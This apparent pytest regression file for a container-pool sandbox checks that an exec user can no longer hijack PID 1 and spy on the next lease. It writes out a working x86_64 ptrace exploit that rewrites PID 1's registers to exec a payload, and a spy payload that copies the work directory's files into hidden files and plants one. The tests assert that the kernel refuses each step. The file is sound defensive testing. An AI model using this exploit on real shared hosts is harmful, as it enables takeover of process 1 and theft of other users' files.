"""Attack 1 (critical): a pool user takes over PID 1 and persists into the next lease.

The attack that worked: as the exec user, PTRACE_ATTACH to PID 1 (the reaper, then running as
the same uid), rewrite its registers so it re-enters the kernel as ``execve`` of a spy, detach.
The spy *is* PID 1, so ``kill -9 -1`` and the reset spare it; it copied the next user's files
and planted one in their work dir. Now PID 1 runs as its own uid (see ``container_scripts``):
attach, seize, /proc/1/mem and signals are all refused, and the next lease sees nothing.
"""

from __future__ import annotations

import json
import time

import pytest

from rsigym.sandbox.container_scripts import INIT_UID

pytestmark = pytest.mark.docker

# The spy the attack tries to make PID 1 exec: it keeps reaping (as PID 1 must), ignores what
# can be ignored, copies every file of the work dir to /dev/shm and /tmp, and plants one.
SPY = (
    "import os, shutil, signal, time\n"
    "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n    signal.signal(s, signal.SIG_IGN)\n"
    "while True:\n"
    "    try:\n        while os.waitpid(-1, os.WNOHANG)[0]:\n            pass\n    except ChildProcessError:\n        pass\n"
    "    try:\n"
    "        for n in os.listdir('/work'):\n"
    "            if n != 'planted.txt':\n"
    "                shutil.copy('/work/' + n, '/dev/shm/.spy-' + n); shutil.copy('/work/' + n, '/tmp/.spy-' + n)\n"
    "        open('/work/planted.txt', 'w').write('planted by a previous user')\n"
    "    except OSError:\n        pass\n"
    "    time.sleep(0.05)\n"
)

# x86_64: ptrace PID 1, point it at its own `syscall` instruction with rax=execve and the
# spy's argv written below its stack pointer. Prints what each step achieved, as JSON.
ATTACK = r"""
import ctypes, errno, json, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PEEK, POKE, GETREGS, SETREGS, ATTACH, DETACH, SEIZE = 2, 5, 12, 13, 16, 17, 0x4206
report = {}
def err():
    return errno.errorcode.get(ctypes.get_errno(), "?")
try:
    open("/proc/1/mem", "r+b").close(); report["proc_mem"] = "opened"
except OSError as e:
    report["proc_mem"] = errno.errorcode.get(e.errno, "?")
for name, sig in (("kill", 9), ("term", 15), ("stop", 19)):
    try:
        os.kill(1, sig); report[name] = "sent"
    except OSError as e:
        report[name] = errno.errorcode.get(e.errno, "?")
child = os.fork()  # seize from a child that exits: its exit detaches a successful seize
if child == 0:
    os._exit(0 if libc.ptrace(SEIZE, 1, None, None) == 0 else ctypes.get_errno())
code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
report["seize"] = "ok" if code == 0 else errno.errorcode.get(code, "?")
if libc.ptrace(ATTACH, 1, None, None) != 0:
    report["attach"] = err(); print(json.dumps(report)); sys.exit(0)
report["attach"] = "ok"
os.waitpid(1, 0x40000000)  # __WALL
regs = (ctypes.c_ulong * 27)()
libc.ptrace(GETREGS, 1, None, ctypes.byref(regs))
RAX, RDX, RSI, RDI, ORIG_RAX, RIP, RSP = 10, 12, 13, 14, 15, 16, 19
base = (regs[RSP] - 65536) & ~0xF
strings = [b"/bin/sh\0", b"-c\0", ("exec python3 -c '%s'" % sys.argv[1].replace("'", "'\\''")).encode() + b"\0"]
blob, addrs = b"", []
for s in strings:
    addrs.append(base + len(blob)); blob += s
blob += b"\0" * (-len(blob) % 8)
argv_at = base + len(blob)
blob += struct.pack("<4Q", addrs[0], addrs[1], addrs[2], 0)
for i in range(0, len(blob), 8):
    libc.ptrace(POKE, 1, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("<Q", blob[i:i + 8])[0]))
word = libc.ptrace(PEEK, 1, ctypes.c_void_p(regs[RIP] - 2), None) & 0xFFFF
report["at_syscall"] = word == 0x050F
regs[RIP] -= 2; regs[RAX] = 59; regs[ORIG_RAX] = 2**64 - 1
regs[RDI], regs[RSI], regs[RDX] = addrs[0], argv_at, 0
libc.ptrace(SETREGS, 1, None, ctypes.byref(regs))
libc.ptrace(DETACH, 1, None, None)
print(json.dumps(report))
"""

STATUS_UID = "print(open('/proc/1/status').read().split('Uid:')[1].split()[0])"


def test_exec_user_cannot_ptrace_signal_or_write_pid1_and_the_next_lease_sees_nothing(pool):
    first = pool.acquire()
    container_id = first.container_id
    result = first.exec(["python3", "-c", ATTACK, SPY], timeout=30)
    assert result.ok, result
    report = json.loads(result.stdout)
    first.close()

    second = pool.acquire()
    try:
        second.write_files({"answer_key.txt": "the second user's secret"})
        time.sleep(1.0)  # a spy polling every 50 ms would have copied and planted by now
        listing = second.exec(["sh", "-c", "ls -A /work /tmp /dev/shm"], persist=True)
        pid1 = second.exec(["cat", "/proc/1/cmdline"], persist=True).stdout
    finally:
        second.close()
    third = pool.acquire()
    try:
        leftovers = third.exec(["sh", "-c", "cat /dev/shm/.spy-* /tmp/.spy-* /work/* 2>/dev/null; exit 0"]).stdout
    finally:
        third.close()

    # Every step of the takeover is refused, by the kernel, for want of the same uid.
    assert report == {"proc_mem": "EACCES", "kill": "EPERM", "term": "EPERM", "stop": "EPERM",
                      "seize": "EPERM", "attach": "EPERM"}, report  # fmt: skip
    # still the reaper and INIT server, not the spy (its SIGCHLD set-up is its own)
    assert "signal.set_wakeup_fd(WAKE_W" in pid1 and "planted" not in pid1, f"PID 1 is not the reaper: {pid1[:300]!r}"
    assert listing.stdout.split() == ["/dev/shm:", "/tmp:", "/work:", "answer_key.txt"], listing
    assert "secret" not in leftovers and "planted" not in leftovers
    assert second.container_id == container_id  # the reset passed: the same container served all


@pytest.mark.parametrize("as_user", ["user", "harness"])
def test_pid1_runs_as_a_uid_no_exec_identity_has(own_sandbox, as_user):
    uid = own_sandbox.exec(["python3", "-c", STATUS_UID]).stdout.strip()
    assert uid == str(INIT_UID)
    mine = own_sandbox.exec(["id", "-u"], as_user=as_user).stdout.strip()
    assert mine != uid
    # The harness identity is as far from PID 1 as the user.
    attempt = own_sandbox.exec(["python3", "-c", ATTACK, SPY], as_user=as_user, timeout=30)
    assert json.loads(attempt.stdout)["attach"] == "EPERM"
